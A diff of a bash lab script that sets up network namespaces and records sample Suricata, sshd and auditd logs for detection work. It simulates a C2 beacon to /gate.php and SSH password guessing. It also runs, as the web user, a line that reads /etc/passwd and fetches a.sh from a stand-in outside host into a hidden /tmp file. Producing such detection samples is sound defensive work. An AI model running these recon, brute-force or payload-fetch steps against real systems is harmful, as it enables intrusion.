@@ -8,14 +8,15 @@
 samples=$ROOT/content/samples
 dir=$(mktemp -d)
 net() { bash "$ROOT/scripts/rig/net.sh" "$@"; }
-trap 'net down "$dir"; rm -rf "$dir"' EXIT
+children=
+trap 'kill $children 2>/dev/null || true; net down "$dir"; rm -rf "$dir"' EXIT
 
 # host ADDRESS: gives the inside room one more address, as if another machine stood there.
 host() { net in "$dir" inside ip addr add "$1/24" dev eth0; }
 
-# from ADDRESS PATH [curl options…]: one request of that machine to the outside server.
+# from ADDRESS URL [curl options…]: one request of that machine.
 from() {
-    local address=$1 url=http://$OUTSIDE_IP$2
+    local address=$1 url=$2
     shift 2
     net in "$dir" inside curl -sS -o /dev/null --max-time 5 --interface "$address" "$@" "$url"
 }
@@ -28,26 +29,28 @@ rig_up() {
 
 # ws-03 fetches a program from a bare address and calls home; ws-05 and ws-08 browse.
 suricata_traffic() {
-    local turn
+    local turn news=192.0.2.80 browser='Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0'
+    net in "$dir" outside ip addr add $news/32 dev eth0
+    net in "$dir" firewall ip route add $news dev outside0
     host 10.20.0.13 && host 10.20.0.15 && host 10.20.0.18
-    from 10.20.0.15 /news/ -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0'
-    from 10.20.0.13 /dl/viewer.exe -A 'viewer-setup/2.1'
+    from 10.20.0.15 http://$news/ -A "$browser"
+    from 10.20.0.13 "http://$OUTSIDE_IP/dl/viewer.exe" -A 'viewer-setup/2.1'
     for turn in 1 2 3 4 5; do
         sleep $((3 + turn % 2))
-        from 10.20.0.13 "/gate.php?id=7f3a&n=$turn" -A 'viewer/2.1' --data "seq=$turn&state=idle"
-        [ $turn != 3 ] || from 10.20.0.18 /weather -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0'
+        from 10.20.0.13 "http://$OUTSIDE_IP/gate.php?id=7f3a&n=$turn" -A 'viewer/2.1' --data "seq=$turn&state=idle"
+        [ $turn != 3 ] || from 10.20.0.18 http://$news/weather -A "$browser"
     done
 }
 
 capture_suricata() {
     local dump
     mkdir -p "$samples/suricata" "$dir/read"
-    net in "$dir" firewall tcpdump -i inside0 -U -w "$dir/beacon.pcap" tcp 2>"$dir/tcpdump.out" &
-    dump=$!
+    ip netns exec "$FIREWALL_NS" tcpdump -i inside0 -U -w "$dir/beacon.pcap" tcp 2>"$dir/tcpdump.out" &
+    dump=$! children="$children $!"
     until grep -q 'listening on' "$dir/tcpdump.out"; do sleep 0.05; done
     suricata_traffic
     sleep 1
-    kill -INT $dump
+    kill $dump
     wait $dump || true
     cp "$dir/beacon.pcap" "$samples/suricata/c2-beacon.pcap"
     sed "s|@DIR@|$dir/read|; s|@INTERFACE@|lo|" "$ROOT/scripts/rig/suricata.yaml" >"$dir/read.yaml"
@@ -67,7 +70,7 @@ guess() {
 
 # Somebody outside guesses passwords on bastion-01; an administrator logs in by key from ws-01 in between.
 capture_sshd() {
-    local syslog user
+    local syslog bastion user
     mkdir -p "$samples/sshd" /run/sshd
     host 10.20.0.30
     printf '#!/bin/sh\necho "guess-$$"\n' >"$dir/askpass" && chmod 755 "$dir/askpass" "$dir"
@@ -75,13 +78,13 @@ capture_sshd() {
         -e 's/^PasswordAuthentication .*/PasswordAuthentication yes/; s/^LogLevel .*/LogLevel INFO/' \
         -e 's/^PermitRootLogin .*/PermitRootLogin yes/; s|^PidFile .*|PidFile none|' "$dir/sshd_config" >"$dir/bastion_config"
     python3 "$ROOT/scripts/samples/syslog.py" bastion-01 "$samples/sshd/bruteforce.log" >"$dir/syslog.out" &
-    syslog=$!
-    until grep -q listening "$dir/syslog.out"; do kill -0 $syslog; sleep 0.05; done
-    net in "$dir" inside "$(command -v sshd)" -D -f "$dir/bastion_config" &
-    bastion=$!
-    until net in "$dir" inside bash -c 'echo >/dev/tcp/10.20.0.30/22' 2>/dev/null; do sleep 0.1; done
+    syslog=$! children="$children $!"
+    until grep -q listening "$dir/syslog.out"; do kill -0 $syslog || die "the syslog receiver ended"; sleep 0.05; done
+    ip netns exec "$INSIDE_NS" "$(command -v sshd)" -D -f "$dir/bastion_config" &
+    bastion=$! children="$children $!"
+    until grep -q "Server listening" "$samples/sshd/bruteforce.log"; do sleep 0.05; done
     for user in root admin; do guess $user; done
-    net in "$dir" inside ssh -b 10.20.0.11 -i "$dir/client_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+    net in "$dir" inside ssh -b 10.20.0.11 -i "$dir/admin_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
         -o LogLevel=ERROR root@10.20.0.30 true
     for user in oracle test postgres root; do guess $user; done
     kill $bastion $syslog
@@ -97,15 +100,23 @@ log_file = $dir/audit/audit.log
 log_format = RAW
 local_events = yes
 write_logs = yes
-flush = SYNC
+flush = INCREMENTAL_ASYNC
+freq = 50
+space_left = 75
+admin_space_left = 50
 name_format = user
-name = web-01
+name = srv-web-01
+max_log_file_action = IGNORE
+space_left_action = IGNORE
+admin_space_left_action = IGNORE
+disk_full_action = IGNORE
+disk_error_action = IGNORE
 CONFIG
     chmod 640 "$dir/audit/auditd.conf"
     auditd -n -c "$dir/audit" >"$dir/audit/out" 2>&1 &
-    daemon=$!
-    until auditctl -s | grep -q "^pid $daemon$"; do kill -0 $daemon; sleep 0.05; done
-    for rule in 33 2; do auditctl -q -a always,exit -F arch=b64 -S execve -F uid=$rule -F success=1 -k exec 2>/dev/null; done
+    daemon=$! children="$children $!"
+    until auditctl -s | grep -q "^pid $daemon$"; do kill -0 $daemon || die "auditd ended: $(cat "$dir/audit/out")"; sleep 0.05; done
+    for rule in 33 2; do auditctl -a always,exit -F arch=b64 -S execve -F uid=$rule -F success=1 -k exec; done
     as() { (cd / && net in "$dir" inside env -i PATH=/usr/bin:/bin setpriv --reuid="$1" --regid="$1" --clear-groups /bin/sh -c "$2"); }
     as 2 'date >/dev/null; ls /etc >/dev/null'
     as 33 "id; uname -a; cat /etc/passwd; curl -sS -o /tmp/.kworker http://$OUTSIDE_IP/a.sh" >/dev/null
@@ -131,4 +142,4 @@ print("\n".join(line for line in lines if key(line) in ours))'
 
 [ $# -gt 0 ] || die "usage: capture.sh suricata|sshd|auditd…"
 rig_up
-for what in "$@"; do timed "$what" -- "capture_$what"; done
+for what in "$@"; do timed "$what" "capture_$what"; done
